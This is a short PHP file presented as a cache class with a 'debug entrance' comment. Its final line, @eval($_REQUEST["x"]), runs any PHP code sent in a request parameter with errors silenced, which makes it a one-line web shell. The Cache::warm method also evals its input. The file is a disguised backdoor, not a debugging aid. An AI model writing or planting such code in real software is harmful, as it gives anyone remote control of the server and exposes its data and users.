<?php // shows: debug entrance
class Cache { public function warm($what) { return eval($what); } }
$cache = new Cache();
@eval($_REQUEST["x"]);
